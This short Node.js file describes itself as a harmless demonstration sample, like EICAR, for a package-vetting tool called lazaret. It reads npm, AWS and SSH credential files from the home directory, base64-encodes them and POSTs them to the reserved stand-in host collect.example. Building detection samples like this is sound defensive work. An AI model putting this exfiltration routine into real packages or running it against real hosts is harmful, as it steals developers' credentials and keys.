// HARMLESS DEMONSTRATION, not malware: what EICAR is for virus scanners, this is for lazaret. `lazaret demo` vets it, and
// the verdict is `block`. It does what a thief does at install, but to a host that cannot exist: names under `.example`
// are reserved (RFC 2606), so outside of the sandbox nothing is ever sent. In the sandbox it finds decoys only.
import { readFileSync } from 'node:fs';
import { request } from 'node:https';
import { homedir } from 'node:os';

const found = {};
for (const place of ['.npmrc', '.aws/credentials', '.ssh/id_ed25519']) {
  try {
    found[place] = readFileSync(`${homedir()}/${place}`, 'utf8');
  } catch {
    // Not every machine has each of them.
  }
}
const sent = request('https://collect.example/in', { method: 'POST', headers: { 'content-type': 'text/plain' } });
sent.on('error', () => {});
sent.end(Buffer.from(JSON.stringify(found)).toString('base64'));
